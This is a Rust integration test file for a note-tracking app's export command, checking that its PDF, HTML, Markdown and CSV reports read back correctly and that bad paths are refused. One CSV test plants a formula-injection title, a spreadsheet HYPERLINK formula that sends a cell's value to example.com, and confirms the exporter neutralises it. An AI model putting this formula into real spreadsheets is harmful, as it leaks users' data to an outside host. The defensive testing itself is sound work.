//! Reports and CSV exports through the command line, as real processes over real files, each output read back
//! by an independent reader (poppler's pdftotext/pdfinfo, the csv crate), and outputs that cannot be written.

use std::path::Path;

mod common;
use common::disk::running_as_root;
use common::*;

fn note_ids(dir: &Path, count: usize) -> Result<Vec<i64>, Box<dyn std::error::Error>> {
    let conn = rusqlite::Connection::open(dir.join("cairn.sqlite3"))?;
    let mut stmt = conn.prepare("SELECT id FROM note WHERE deleted_at IS NULL ORDER BY id LIMIT ?1")?;
    let ids = stmt
        .query_map([count as i64], |row| row.get(0))?
        .collect::<Result<Vec<i64>, _>>()?;
    Ok(ids)
}

#[test]
fn the_pdf_report_reads_back_with_milestones_figures_notes_and_page_numbers() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let dir = small_demo(tmp.path())?;
    let pdf = tmp.path().join("report.pdf");
    let pdf_arg = pdf.display().to_string();
    let ids = note_ids(&dir, 2)?;
    let (first, second) = (ids[0].to_string(), ids[1].to_string());
    ok(
        &dir,
        &[
            "export", "--format", "pdf", "--out", &pdf_arg, "--note", &first, "--note", &second,
        ],
    )?;

    let bytes = std::fs::read(&pdf)?;
    assert!(bytes.starts_with(b"%PDF-"), "a PDF file");
    let info = tool("pdfinfo", &[&pdf_arg])?;
    let pages: u32 = info
        .lines()
        .find_map(|line| line.strip_prefix("Pages:"))
        .and_then(|n| n.trim().parse().ok())
        .ok_or("pdfinfo gives a page count")?;
    assert!((2..=12).contains(&pages), "a few pages, got {pages}:\n{info}");
    assert!(
        info.contains("CME writing: progress report"),
        "the title is the PDF's title:\n{info}"
    );

    let extracted = tool("pdftotext", &["-layout", &pdf_arg, "-"])?;
    let conn = rusqlite::Connection::open(dir.join("cairn.sqlite3"))?;
    let milestones: Vec<String> = conn
        .prepare("SELECT title FROM milestone WHERE retired_at IS NULL ORDER BY position")?
        .query_map([], |row| row.get(0))?
        .collect::<Result<_, _>>()?;
    assert_eq!(milestones.len(), 5);
    for title in &milestones {
        assert!(
            extracted.contains(title.as_str()),
            "the PDF names the milestone {title}"
        );
    }
    let (done, total): (u32, u32) = conn.query_row(
        "SELECT count(done_at), count(*) FROM checklist_item WHERE deleted_at IS NULL AND hidden_at IS NULL AND retired_at IS NULL",
        [],
        |row| Ok((row.get(0)?, row.get(1)?)),
    )?;
    let percent = (done * 100 + total / 2) / total;
    assert!(
        extracted.contains(&format!("{percent}%")) && extracted.contains(&format!("{done} of {total} items")),
        "the overall figure {percent}% ({done} of {total}) is in the PDF"
    );
    for heading in [
        "Milestones",
        "Checklist items done",
        "Competencies",
        "Study time",
        "Portfolio",
        "Network",
        "Notes",
    ] {
        assert!(extracted.contains(heading), "the PDF has the section {heading}");
    }
    // A long title wraps: compare with line breaks and runs of spaces made single spaces.
    let flat = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
    let note_title: String =
        conn.query_row("SELECT title FROM note WHERE id = ?1", [ids[0]], |row| row.get(0))?;
    assert!(
        flat(&extracted).contains(&flat(&note_title)),
        "the chosen note {note_title} is in the PDF"
    );
    assert!(
        extracted.contains(&format!("1 of {pages}")),
        "page numbers 'N of M' in the footer"
    );
    assert!(
        extracted.contains(&format!("{pages} of {pages}")),
        "the last page is numbered"
    );
    Ok(())
}

#[test]
fn the_html_report_is_one_file_with_no_external_reference_and_the_markdown_says_the_same() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let dir = small_demo(tmp.path())?;
    let html_path = tmp.path().join("report.html");
    let md_path = tmp.path().join("report.md");
    let id = note_ids(&dir, 1)?[0].to_string();
    ok(
        &dir,
        &[
            "export",
            "--format",
            "html",
            "--out",
            &html_path.display().to_string(),
            "--note",
            &id,
        ],
    )?;
    ok(
        &dir,
        &[
            "export",
            "--format",
            "md",
            "--out",
            &md_path.display().to_string(),
            "--from",
            "2000-01-01",
        ],
    )?;
    let html = std::fs::read_to_string(&html_path)?;
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(
        html.contains("<style>") && html.matches("<svg").count() >= 3,
        "inline CSS and the three charts"
    );
    let lower = html.to_lowercase();
    for external in [
        "<link",
        "<script",
        "src=",
        "@import",
        "url(",
        "<img",
        "<iframe",
        "http-equiv=\"refresh\"",
    ] {
        assert!(!lower.contains(external), "the HTML report holds no {external}");
    }
    // The only URLs are the SVG namespace and links the person wrote in a note (not loaded by anything).
    let addresses = lower
        .match_indices("http://")
        .chain(lower.match_indices("https://"));
    for (at, _) in addresses {
        let rest = &lower[at..];
        assert!(
            rest.starts_with("http://www.w3.org/2000/svg") || lower[..at].ends_with("href=\""),
            "an unexpected address in the HTML: {}",
            &rest[..rest.len().min(60)]
        );
    }
    let markdown = std::fs::read_to_string(&md_path)?;
    assert!(markdown.starts_with("# CME writing: progress report"));
    assert!(
        markdown.contains("1 January 2000 –"),
        "the period is in the Markdown"
    );
    for heading in [
        "## Milestones",
        "## Competencies",
        "## Study time",
        "## Portfolio",
        "## Network",
    ] {
        assert!(markdown.contains(heading), "the Markdown has {heading}");
    }
    Ok(())
}

#[test]
fn csv_files_parse_with_a_real_reader_one_per_kind() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let dir = small_demo(tmp.path())?;
    let parent = tmp.path().join("csv");
    std::fs::create_dir(&parent)?;
    // A notes.csv already in the chosen folder is never overwritten: the files go into a new folder.
    std::fs::write(parent.join("notes.csv"), "mine")?;
    let today = jiff::ZonedDateTime::now().date();
    std::fs::create_dir(parent.join(format!("cairn-csv-{today}")))?;
    // One note is titled like a formula: it must stay text and read back exactly.
    let formula = "=HYPERLINK(\"https://example.com/?\"&I2,\"Open\")";
    rusqlite::Connection::open(dir.join("cairn.sqlite3"))?.execute(
        "UPDATE note SET title = ?1 WHERE id = (SELECT min(id) FROM note WHERE deleted_at IS NULL)",
        [formula],
    )?;
    let printed = ok(
        &dir,
        &[
            "export",
            "--format",
            "csv",
            "--out",
            &parent.display().to_string(),
        ],
    )?;
    let out = parent.join(format!("cairn-csv-{today}-2"));
    assert!(printed.contains(&out.display().to_string()), "{printed}");
    assert_eq!(std::fs::read_to_string(parent.join("notes.csv"))?, "mine");
    let conn = rusqlite::Connection::open(dir.join("cairn.sqlite3"))?;
    let count = |sql: &str| conn.query_row(sql, [], |row| row.get::<_, i64>(0).map(|n| n as usize));
    let expected = [
        ("study-sessions.csv", count("SELECT count(*) FROM study_session WHERE deleted_at IS NULL")?),
        ("notes.csv", count("SELECT count(*) FROM note WHERE deleted_at IS NULL")?),
        ("contacts.csv", count("SELECT count(*) FROM contact WHERE deleted_at IS NULL")?),
        ("portfolio-pieces.csv", count("SELECT count(*) FROM portfolio_piece WHERE deleted_at IS NULL")?),
        ("competency-ratings.csv", count("SELECT count(*) FROM rating r JOIN assessment a ON a.id = r.assessment_id WHERE a.deleted_at IS NULL")?),
        ("interactions.csv", count("SELECT count(*) FROM interaction i JOIN contact c ON c.id = i.contact_id WHERE i.deleted_at IS NULL AND c.deleted_at IS NULL")?),
        ("checklist-items.csv", count("SELECT count(*) FROM checklist_item WHERE deleted_at IS NULL AND retired_at IS NULL")?),
    ];
    for (file, rows) in expected {
        let bytes = std::fs::read(out.join(file))?;
        assert!(
            bytes.starts_with(b"\xEF\xBB\xBF"),
            "{file} starts with a byte-order mark for spreadsheets"
        );
        assert!(
            bytes.windows(2).any(|w| w == b"\r\n"),
            "{file} uses CRLF line ends (RFC 4180)"
        );
        let mut reader = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
        let headers = reader.headers()?.clone();
        let records = reader.records().collect::<Result<Vec<_>, _>>()?;
        assert_eq!(records.len(), rows, "{file} has one row per record");
        assert!(
            records.iter().all(|r| r.len() == headers.len()),
            "{file} rows are complete"
        );
    }
    // A note's Markdown body (with commas, quotes and line breaks) comes back exactly.
    let (title, body): (String, String) = conn.query_row(
        "SELECT title, body FROM note WHERE deleted_at IS NULL AND body LIKE '%' || char(10) || '%' ORDER BY created_at, id LIMIT 1",
        [],
        |row| Ok((row.get(0)?, row.get(1)?)),
    )?;
    let bytes = std::fs::read(out.join("notes.csv"))?;
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let headers = reader.headers()?.clone();
    let (title_at, body_at) = (
        headers
            .iter()
            .position(|h| h == "title")
            .ok_or("a title column")?,
        headers.iter().position(|h| h == "body").ok_or("a body column")?,
    );
    let found = reader
        .records()
        .filter_map(Result::ok)
        .find(|r| r.get(title_at).map(cairn_report::csv_files::read_cell) == Some(title.as_str()))
        .ok_or("the note is in notes.csv")?;
    // A Markdown list starts with "- ", which a spreadsheet would take for a formula: it is neutralised, and the
    // reader gets the text back exactly.
    assert_eq!(
        found.get(body_at).map(cairn_report::csv_files::read_cell),
        Some(body.as_str()),
        "the body survives quoting"
    );
    let titles: Vec<String> = csv::Reader::from_reader(&bytes[3..])
        .records()
        .filter_map(Result::ok)
        .filter_map(|r| r.get(title_at).map(str::to_owned))
        .collect();
    let neutralised = titles
        .iter()
        .find(|t| t.contains("HYPERLINK"))
        .ok_or("the formula-like title")?;
    assert_eq!(
        neutralised,
        &format!("'{formula}"),
        "a spreadsheet reads it as text"
    );
    assert_eq!(cairn_report::csv_files::read_cell(neutralised), formula);
    Ok(())
}

#[test]
fn outputs_into_a_missing_or_read_only_folder_fail_cleanly() -> TestResult {
    let tmp = tempfile::tempdir()?;
    let dir = small_demo(tmp.path())?;
    let missing = tmp.path().join("no-such-folder/report.pdf");
    refused(
        &dir,
        &[
            "export",
            "--format",
            "html",
            "--out",
            &missing.display().to_string(),
        ],
        "io",
    )?;
    assert!(!missing.parent().unwrap_or(tmp.path()).exists());

    let locked = tmp.path().join("locked");
    std::fs::create_dir(&locked)?;
    std::fs::write(locked.join("report.md"), "the old report")?;
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o500))?;
    // Root ignores folder permissions, so the read-only case is checked only where it can fail.
    let root = running_as_root();
    if !root {
        refused(
            &dir,
            &[
                "export",
                "--format",
                "md",
                "--out",
                &locked.join("report.md").display().to_string(),
            ],
            "io",
        )?;
        assert_eq!(
            std::fs::read_to_string(locked.join("report.md"))?,
            "the old report"
        );
    }
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o700))?;
    // A path that is a folder cannot become a report, and nothing is left beside it.
    refused(
        &dir,
        &["export", "--format", "md", "--out", &locked.display().to_string()],
        "io",
    )?;
    let names: Vec<_> = std::fs::read_dir(&locked)?
        .filter_map(Result::ok)
        .map(|e| e.file_name())
        .collect();
    assert_eq!(names.len(), 1, "no partial file left: {names:?}");
    // Bad dates are refused at their field.
    let stderr = refused(
        &dir,
        &[
            "export",
            "--format",
            "md",
            "--out",
            "/tmp/x.md",
            "--from",
            "2026-02-30",
        ],
        "invalid_input",
    )?;
    assert!(stderr.contains("2026-02-30"), "{stderr}");
    refused(
        &dir,
        &[
            "export",
            "--format",
            "json",
            "--out",
            "/tmp/x.json",
            "--from",
            "2026-01-01",
        ],
        "invalid_input",
    )?;
    Ok(())
}
